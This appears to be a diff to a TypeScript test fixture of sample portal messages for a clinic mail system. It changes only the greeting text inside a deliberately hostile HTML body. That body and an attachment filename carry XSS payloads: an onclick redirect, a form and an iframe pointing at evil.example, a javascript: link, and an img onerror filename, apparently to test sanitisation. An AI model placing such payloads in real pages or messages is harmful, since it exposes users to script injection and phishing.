@@ -179,7 +179,7 @@ export const PORTAL_MESSAGES: readonly MemoryMessage[] = [
     content: mail(
       `Hello ${SCRIPT}`,
       `"${SCRIPT.replaceAll('"', "'")}" <jane.roe@clinic.example>`,
-      `<p onclick="top.location='https://evil.example/'">Hi</p>${SCRIPT}<form action="https://evil.example/"><input name="a"><button>Go</button></form><iframe src="https://evil.example/"></iframe><a href="javascript:alert(1)">link</a>`,
+      `<p onclick="top.location='https://evil.example/'">Please call us about Friday.</p>${SCRIPT}<form action="https://evil.example/"><input name="a"><button>Go</button></form><iframe src="https://evil.example/"></iframe><a href="javascript:alert(1)">link</a>`,
       [
         { name: `<img src=x onerror=alert(1)>.png`, type: 'image/png', octets: png(8, 8, [1, 2, 3]) },
         {
